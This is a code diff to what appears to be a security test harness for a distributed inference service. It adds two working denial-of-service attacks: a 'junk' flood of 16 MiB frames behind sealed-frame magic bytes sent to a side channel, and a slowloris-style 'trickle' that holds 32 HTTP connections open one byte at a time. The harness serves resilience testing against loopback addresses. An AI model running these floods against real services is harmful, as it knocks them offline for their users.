@@ -19,7 +19,13 @@ ATTACK:
   deputy        the confused deputy (issue 48): the stranger's own request (KEY, TOKENS,
                 DIGEST), registered as Mooncake session SESSION with memory MEMORY (a
                 victim's, or the prefill's own): does the prefill write there?
-  all           every attack above but ``read``, ``release`` and ``deputy`` (no key needed)
+  junk          16 MiB frames of zeros behind the sealed frames' magic bytes, as fast as
+                they go, on 2 connections to the address given (a rank's side channel, which
+                the stranger cannot look up with a secret), for --seconds
+  trickle       32 connections to an HTTP bootstrap (``--bootstrap http://host:port``), each
+                sending one byte of a GET every 0.5 s and reconnecting when cut, for --seconds:
+                how long the server let each connection live
+  all           every attack above but ``read``, ``release``, ``deputy``, ``junk`` and ``trickle``
 
 ``--source ADDR``: the address its side-channel connections come from (another loopback
 address, 127.0.0.2, stands for another host).
@@ -29,7 +35,9 @@ from __future__ import annotations
 
 import argparse
 import json
+import socket
 import sys
+import threading
 import time
 
 import msgpack
@@ -77,7 +85,7 @@ def table(bootstrap: str) -> RankTable | None:
     sock = sockets.socket(zmq.DEALER)
     try:
         sock.connect(bootstrap)
-        sock.send(encode(QueryRanks("stranger")))
+        sock.send(encode(QueryRanks("stranger", "stranger")))
         if not sock.poll(int(WAIT_S * 1000)):
             return None
         msg = decode(sock.recv(), (RankTable, Reply))
@@ -209,20 +217,99 @@ def flood(bootstrap: str, conns: int = 1, per: int = 300, **_) -> dict:
     return out
 
 
+JUNK = b"\xc1D2A" + bytes((16 << 20) - 4)  # the seal's magic, then 16 MiB of nothing
+
+
+def junk(address: str, seconds: float = 5.0, **_) -> dict:
+    """Two DEALERs sending ``JUNK`` to ``address`` until ``seconds`` pass; what they queued."""
+    socks = [sockets.socket(zmq.DEALER) for _ in range(2)]
+    for s in socks:
+        s.setsockopt(zmq.SNDHWM, 4)
+        s.connect(address)
+    sent, end = 0, time.monotonic() + seconds
+    while time.monotonic() < end:
+        for s in socks:
+            sent += sockets.send_nowait(s, JUNK)
+        time.sleep(0.001)
+    for s in socks:
+        s.close()
+    return {"sent": sent}
+
+
+def trickle(address: str, seconds: float = 5.0, **_) -> dict:
+    """32 connections to ``http://host:port``, each a byte of ``GET /query`` every 0.5 s,
+    replaced when the server cuts it; the longest any lived (s) and how many were cut."""
+    host, port = address.removeprefix("http://").rsplit(":", 1)
+    lives, end, lock = [], time.monotonic() + seconds, threading.Lock()
+    request = b"GET /query HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"z" * 4096
+
+    def one():
+        while time.monotonic() < end:
+            try:
+                c = socket.create_connection((host, int(port)), timeout=WAIT_S)
+            except OSError:
+                time.sleep(0.1)
+                continue
+            born = time.monotonic()
+            try:
+                for b in request:
+                    if time.monotonic() >= end:
+                        break
+                    c.sendall(bytes([b]))
+                    c.settimeout(0.5)
+                    try:
+                        if c.recv(1) == b"":  # the server closed it
+                            break
+                    except TimeoutError:
+                        pass
+            except OSError:  # reset by the server
+                pass
+            finally:
+                c.close()
+            if time.monotonic() < end:
+                with lock:
+                    lives.append(time.monotonic() - born)
+                time.sleep(0.1)  # then the next connection
+
+    threads = [threading.Thread(target=one, daemon=True) for _ in range(32)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(seconds + 2 * WAIT_S)
+    return {"cut": len(lives), "longest_s": max(lives, default=0.0)}
+
+
 ATTACKS = {"register": register, "long": long, "big": big, "read": read, "release": release, "flood": flood,
-           "deputy": deputy}
+           "junk": junk, "trickle": trickle, "deputy": deputy}
+
+
+def _args(attack: str, bootstrap: str, **kw) -> list[str]:
+    args = [sys.executable, __file__, attack, "--bootstrap", bootstrap]
+    for k, v in kw.items():
+        args += [f"--{k}", str(v)]
+    return args
 
 
 def run(attack: str, bootstrap: str, **kw) -> dict:
     """Run this file as its own process against ``bootstrap``; its JSON answer."""
     import subprocess
 
-    args = [sys.executable, __file__, attack, "--bootstrap", bootstrap]
-    for k, v in kw.items():
-        args += [f"--{k}", str(v)]
-    out = subprocess.run(args, capture_output=True, text=True, timeout=180)
+    out = subprocess.run(_args(attack, bootstrap, **kw), capture_output=True, text=True, timeout=180)
     assert out.returncode == 0, out.stderr[-2000:]
     return json.loads(out.stdout.strip().splitlines()[-1])
+
+
+def spawn(attack: str, bootstrap: str, **kw):
+    """``run`` without waiting: the process; ``result(proc)`` waits for its JSON answer."""
+    import subprocess
+
+    return subprocess.Popen(_args(attack, bootstrap, **kw), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+
+
+def result(proc, timeout_s: float = 120.0) -> dict:
+    out, err = proc.communicate(timeout=timeout_s)
+    assert proc.returncode == 0, err[-2000:]
+    return json.loads(out.strip().splitlines()[-1])
 
 
 def main(argv=None) -> int:
@@ -237,11 +324,12 @@ def main(argv=None) -> int:
     p.add_argument("--conns", type=int, default=1)
     p.add_argument("--per", type=int, default=300)
     p.add_argument("--source", default="127.0.0.1")
+    p.add_argument("--seconds", type=float, default=5.0)
     a = p.parse_args(argv)
     global SOURCE
     SOURCE = a.source
     names = ["register", "long", "big", "flood"] if a.attack == "all" else [a.attack]
-    kw = {k: getattr(a, k) for k in ("key", "tokens", "digest", "session", "memory", "conns", "per")}
+    kw = {k: getattr(a, k) for k in ("key", "tokens", "digest", "session", "memory", "conns", "per", "seconds")}
     print(json.dumps({n: ATTACKS[n](a.bootstrap, **kw) for n in names}))
     return 0
 
